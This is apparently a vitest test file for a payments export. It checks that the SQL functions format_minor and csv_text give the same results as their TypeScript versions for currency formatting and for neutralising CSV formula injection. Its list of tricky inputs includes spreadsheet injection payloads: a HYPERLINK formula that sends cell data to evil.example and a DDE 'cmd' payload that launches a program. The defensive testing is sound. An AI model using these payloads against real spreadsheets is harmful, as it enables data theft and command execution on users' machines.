// The SQL functions the exports are written with (prisma/migrations/*_csv_functions) against the
// TypeScript they stand in for: format_minor = formatMinor, csv_text = neutralise (an empty
// cell either way: csv_text gives NULL where neutralise gives '').
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutralise } from '../../../src/payments/csv.ts';
import { SUPPORTED_CURRENCIES, decimalsOf, formatMinor } from '../../../src/money/currency.ts';
import { createTestDatabase, type TestDatabase } from '../../helpers/database.ts';

let db: TestDatabase;
beforeAll(async () => {
  db = await createTestDatabase();
});
afterAll(async () => {
  await db.drop();
});

async function sqlFormatMinor(pairs: Array<[number, string]>): Promise<string[]> {
  const { rows } = await db.pool.query(
    `SELECT format_minor(a, c) AS s FROM unnest($1::bigint[], $2::text[]) WITH ORDINALITY AS t(a, c, i) ORDER BY i`,
    [pairs.map(([a]) => String(a)), pairs.map(([, c]) => c)],
  );
  return rows.map((r) => r.s as string);
}

async function sqlCsvText(values: Array<string | null>): Promise<Array<string | null>> {
  const { rows } = await db.pool.query(
    `SELECT csv_text(v) AS s FROM unnest($1::text[]) WITH ORDINALITY AS t(v, i) ORDER BY i`,
    [values],
  );
  return rows.map((r) => r.s as string | null);
}

const EDGE_AMOUNTS = [
  0, 1, 5, 9, 10, 11, 50, 99, 100, 101, 999, 1000, 1001, 2550, 5120, 9999, 10_000, 12_345, 99_999_999, 100_000_000,
  2_147_483_647, 2_147_483_648, 123_456_789_012, Number.MAX_SAFE_INTEGER,
].flatMap((a) => (a === 0 ? [0] : [a, -a]));

describe('format_minor', () => {
  it('equals formatMinor for every supported currency, edge amounts included', async () => {
    // Unknown and upper-case codes too: both sides fall back to two decimals.
    const currencies = [...SUPPORTED_CURRENCIES, 'xxx', 'JPY', 'BHD', ''];
    expect(currencies.filter((c) => decimalsOf(c) === 0).length).toBeGreaterThan(10);
    expect(currencies.filter((c) => decimalsOf(c) === 3).length).toBe(5);
    const pairs = currencies.flatMap((c) => EDGE_AMOUNTS.map((a): [number, string] => [a, c]));
    const expected = pairs.map(([a, c]) => formatMinor(a, c));
    expect(await sqlFormatMinor(pairs)).toEqual(expected);
  });

  it('equals formatMinor for random amounts in random supported currencies', async () => {
    const currencies = [...SUPPORTED_CURRENCIES];
    const pairs = fc.sample(
      fc.tuple(fc.maxSafeInteger(), fc.constantFrom(...currencies)),
      { numRuns: 20_000, seed: 7 },
    ) as Array<[number, string]>;
    expect(await sqlFormatMinor(pairs)).toEqual(pairs.map(([a, c]) => formatMinor(a, c)));
  });

  it('keeps NULL for an unknown amount', async () => {
    const { rows } = await db.pool.query(`SELECT format_minor(NULL, 'usd') AS s`);
    expect(rows[0].s).toBeNull();
  });
});

describe('csv_text', () => {
  const TRICKY = [
    null, '', '=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", '"', ',', '=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx',
    '\r\n=1', '\n=1', ' =1', "'=1", 'a=b', '1-2', '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '＝1', '＋1', '－1', '＠1', '€=', 'ü', '😀=1', '=😀', 'a,b', 'say "hi"',
    'line\nbreak', 'x'.repeat(10_000), `=${'y'.repeat(10_000)}`, 'Ann Lee', 'donor@example.org', 'cs_test_123',
    // Either side of the fast path's bound (a first character above '@', 64, is never a formula).
    '?x', '>x', '<x', '0x', '9', '!', '#', 'A', 'Ax', '[', '`', '~', '\u007f', '\u0080', 'é', '\u0001', '\u001f',
  ];

  it('equals neutralise on tricky inputs', async () => {
    const out = await sqlCsvText(TRICKY);
    expect(out.map((s) => s ?? '')).toEqual(TRICKY.map((s) => neutralise(s)));
    // Empty means NULL, so that COPY writes an empty unquoted cell rather than "".
    expect(out[0]).toBeNull();
    expect(out[1]).toBeNull();
  });

  it('equals neutralise on random strings', async () => {
    // PostgreSQL text holds any Unicode but NUL.
    const values = fc.sample(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", ' ', ''), fc.string()).map(([a, b]) => a + b),
      ).map((s) => s.replaceAll('\u0000', '')),
      { numRuns: 20_000, seed: 11 },
    );
    const out = await sqlCsvText(values);
    expect(out.map((s) => s ?? '')).toEqual(values.map((s) => neutralise(s)));
  });
});

describe('the functions', () => {
  it('are IMMUTABLE and PARALLEL SAFE, and inlined into the export query', async () => {
    const { rows } = await db.pool.query(
      `SELECT proname, provolatile, proparallel FROM pg_proc WHERE proname IN ('format_minor', 'csv_text') ORDER BY proname`,
    );
    expect(rows).toEqual([
      { proname: 'csv_text', provolatile: 'i', proparallel: 's' },
      { proname: 'format_minor', provolatile: 'i', proparallel: 's' },
    ]);
    // Inlined: the plan shows the expressions, not calls to the functions.
    const { rows: plan } = await db.pool.query(
      `EXPLAIN (VERBOSE, FORMAT json) SELECT csv_text(p.flag), format_minor(p.amount, p.currency) FROM payments p`,
    );
    const text = JSON.stringify(plan);
    expect(text).not.toMatch(/csv_text|format_minor/);
    expect(text).toMatch(/ascii/);
  });
});
